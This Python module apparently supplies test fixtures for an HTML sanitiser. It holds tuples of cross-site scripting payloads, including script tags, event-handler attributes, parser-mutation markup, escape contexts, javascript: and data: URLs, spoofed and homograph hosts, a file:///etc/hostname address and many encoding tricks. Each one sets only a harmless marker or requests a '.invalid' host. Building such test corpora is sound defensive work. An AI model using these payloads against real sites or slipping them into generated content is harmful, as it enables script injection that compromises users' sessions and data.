"""Markup that runs a script: elements, attributes, addresses, and spellings of them."""

from __future__ import annotations

#: What a payload does when it runs, and what it asks the service for.
FIRE = "window.__fired=1"
TRACE = "/fired"

SCRIPTS = (
    f"<script>{FIRE}</script>",
    f"<ScRiPt>{FIRE}</sCrIpT>",
    f"<script\n>{FIRE}</script\n>",
    f"<script/x>{FIRE}</script>",
    f"<script type=module>{FIRE}</script>",
    f"<script type=text/javascript>{FIRE}//</script>",
    f"<script>/*</script><script>*/{FIRE}//</script>",
    f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
    f"<<script>{FIRE}//<</script>",
    f"<script src={TRACE}></script>",
    f"<script src=data:text/javascript,{FIRE}></script>",
    f'<script type=importmap>{{"imports":{{"x":"{TRACE}"}}}}</script>',
    f"<script>{FIRE}",
    f'<noscript><p title="</noscript><script>{FIRE}</script>">',
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><script href={TRACE}></script></svg>",
    f"<svg><script xlink:href={TRACE} /></svg>",
    f"<math><script>{FIRE}</script></math>",
    f"<!--><script>{FIRE}</script>-->",
    f"<![CDATA[<script>{FIRE}</script>]]>",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{FIRE}</script>",
    f"<template><script>{FIRE}</script></template>",
    f"<template shadowrootmode=open><script>{FIRE}</script></template>",
    f"<script language=vbscript>{FIRE}</script>",
)

#: Fire without anybody's doing.
ELEMENTS = (
    f"<img src=x onerror={FIRE}>",
    f"<img/src=x/onerror={FIRE}>",
    f"<img src onerror='{FIRE}'",
    f'<IMG SRC=x OnErRoR="{FIRE}">',
    f"<image src=x onerror={FIRE}>",
    f"<img srcset=x onerror={FIRE}>",
    f"<picture><source srcset=x><img onerror={FIRE}></picture>",
    f"<img src=x\nonerror\n=\n{FIRE}>",
    "<img src=x onerror=&#119;indow.__fired=1>",
    f"<svg onload={FIRE}>",
    f"<svg/onload={FIRE}//",
    f"<svg><g onload={FIRE}></g></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>",
    f"<svg><set onbegin={FIRE} attributeName=x>",
    f"<svg><animateTransform onbegin={FIRE} attributeName=transform>",
    f"<svg><image href=x onerror={FIRE} /></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{FIRE}'/>#x\"/></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{FIRE} /><text>x</text></a>",
    f"<svg><foreignObject><img src=x onerror={FIRE}></foreignObject></svg>",
    f"<svg><style>@import'{TRACE}'</style></svg>",
    f"<math href=javascript:{FIRE}>press</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{FIRE}>press</maction></math>",
    f"<body onload={FIRE}>",
    f"<body onpageshow={FIRE}>",
    f"<frameset onload={FIRE}>",
    f"<video src=x onerror={FIRE}></video>",
    f"<video><source onerror={FIRE}></video>",
    f"<audio src=x onerror={FIRE}></audio>",
    f"<video poster={TRACE}></video>",
    f"<object data=javascript:{FIRE}></object>",
    f"<object data=x onerror={FIRE}></object>",
    f"<embed src=javascript:{FIRE}>",
    "<iframe src=javascript:parent.__fired=1></iframe>",
    "<iframe srcdoc='<script>parent.__fired=1</script>'></iframe>",
    f"<iframe onload={FIRE}></iframe>",
    f"<details open ontoggle={FIRE}><summary>more</summary></details>",
    f"<dialog open onclose={FIRE}><form method=dialog><button>Ok</form></dialog>",
    f"<marquee onstart={FIRE}>news</marquee>",
    f"<input autofocus onfocus={FIRE}>",
    f"<select autofocus onfocus={FIRE}><option>a</select>",
    f"<textarea autofocus onfocus={FIRE}></textarea>",
    f"<button popovertarget=p>open</button><div popover id=p onbeforetoggle={FIRE}>p</div>",
    f"<xss style=animation-name:x onanimationstart={FIRE}>x</xss>",
    f"<xss contenteditable onfocus={FIRE} autofocus>x</xss>",
    f"<keygen autofocus onfocus={FIRE}>",
    f"<link rel=stylesheet href={TRACE} onload={FIRE}>",
    f"<style onload={FIRE}></style>",
    f"<track default onerror={FIRE}>",
    f"<isindex type=image src=x onerror={FIRE}>",
    f"<bgsound src={TRACE}>",
)

MUTATIONS = (
    f"<math><mtext><table><mglyph><style><img src=x onerror={FIRE}></style></mglyph></table>",
    f'<svg></p><style><a id="</style><img src=x onerror={FIRE}>">',
    f"<noscript><style></noscript><img src=x onerror={FIRE}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={FIRE}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={FIRE}></annotation-xml>",
    f"<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror={FIRE}></desc></svg>",
    f"<select><iframe></select><img src=x onerror={FIRE}>",
    f"<listing>&lt;img src=x onerror={FIRE}&gt;</listing>",
    f"<xmp><p title='</xmp><img src=x onerror={FIRE}>'>",
    f"<a title=`><img src=x onerror={FIRE}>`>x</a>",
    f"<p id='</title><svg onload={FIRE}>'>",
    f"<table><td background={TRACE}><caption><img src=x onerror={FIRE}>",
    f"<svg><title><![CDATA[</title><img src=x onerror={FIRE}>]]></title></svg>",
    f"<!--[if gte IE 4]><script>{FIRE}</script><![endif]-->",
    f"<!-- --!><img src=x onerror={FIRE}>-->",
    f"<plaintext><img src=x onerror={FIRE}>",
    f"<div><template><style></template><img src=x onerror={FIRE}></style></div>",
    f"<b><table><svg><style><b title='</style><img src=x onerror={FIRE}>'>",
)

FIRERS = (f"<script>{FIRE}</script>", f"<img src=x onerror={FIRE}>", f"<svg onload={FIRE}>")

#: What a text may have to get out of first.
CONTEXTS = (
    '">{}',
    "'>{}",
    "`>{}",
    "</p>{}",
    "</mark></p></article></li></ol></main>{}",
    "</textarea>{}",
    "</title>{}",
    "</style>{}",
    "</script>{}",
    "</noscript>{}",
    "</template>{}",
    "</select>{}",
    "</svg>{}",
    "</iframe>{}",
    "</xmp></plaintext>{}",
    "-->{}",
    "*/{}/*",
    "]]>{}",
    "%>{}",
    "?>{}",
)

EVENTS = (
    "focus focusin blur click auxclick dblclick mousedown mouseenter mousemove mouseover "
    "mouseout mouseup wheel pointerdown pointerenter pointermove pointerover "
    "pointerrawupdate gotpointercapture keydown keyup keypress copy cut paste beforecopy "
    "select selectstart selectionchange contextmenu drag dragenter dragover drop touchstart "
    "touchmove scroll scrollend transitionrun transitionend animationstart animationend "
    "beforematch beforeinput input change toggle contentvisibilityautostatechange "
    "securitypolicyviolation webkitanimationstart"
)

QUOTES = ('"', "'", "`")

ATTRIBUTE_EVENTS = ("focus", "mouseover", "pointerenter", "animationstart")

SCHEMES = (
    f"javascript:{FIRE}",
    f"JaVaScRiPt:{FIRE}",
    f" javascript:{FIRE}",
    f"java\tscript:{FIRE}",
    f"java\nscript:{FIRE}",
    f"javascript&colon;{FIRE}",
    f"&#106;avascript:{FIRE}",
    f"&#x6A&#x61&#x76&#x61script:{FIRE}",
    f"javascript://example.org/%0a{FIRE}",
    f"javascript:'<script>{FIRE}</script>'",
    f"\x01javascript:{FIRE}",
    f"vbscript:{FIRE}",
    f"data:text/html,<script>{FIRE}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19maXJlZD0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{FIRE}'/>",
    f"view-source:javascript:{FIRE}",
    f"feed:javascript:{FIRE}",
    f"blob:{TRACE}",
    f"filesystem:{TRACE}",
    "file:///etc/hostname",
    "//fired.invalid/x",
    "https:fired.invalid",
    "https://good.example@fired.invalid/",
    "https://good.example\\@fired.invalid/",
    "http://xn--pple-43d.invalid/",
    "ht\u200btps://fired.invalid/",
    "https://fired.invalid/\u202egnp.exe",
    "https://fired.invalid/" + "a" * 3_000,
)

ENCODINGS = (
    f"&lt;script&gt;{FIRE}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{FIRE}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{FIRE}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={FIRE}&#x3e;",
    f"&#0000060img src=x onerror={FIRE}>",
    f"&LT;img src=x onerror={FIRE}&GT;",
    f"%3Cscript%3E{FIRE}%3C/script%3E",
    f"%253Cscript%253E{FIRE}%253C/script%253E",
    f"\\u003cscript\\u003e{FIRE}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={FIRE}\\x3e",
    f"\\074img src=x onerror={FIRE}\\076",
    f"+ADw-script+AD4-{FIRE}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{FIRE}\uff1c/script\uff1e",
    f"\u2039img src=x onerror={FIRE}\u203a",
    f"\u02c2svg onload={FIRE}\u02c3",
    f"\ufe64img src=x onerror={FIRE}\ufe65",
    f"<\u200bscript>{FIRE}</\u200bscript>",
    f"<scr\u00adipt>{FIRE}</scr\u00adipt>",
    f"<img src=x on\u200berror={FIRE}>",
    f"\u013cimg src=x onerror={FIRE}\u013e",
    "<img src=x onerror=\\u0077indow.__fired=1>",
    f"<img\x0csrc=x\x0conerror={FIRE}>",
    f"<img\x0bsrc=x onerror={FIRE}>",
    f"\x1b$B<img src=x onerror={FIRE}>\x1b(B",
    f"\ufeff<script>{FIRE}</script>",
    f"&NewLine;&Tab;<img src=x onerror={FIRE}>",
)
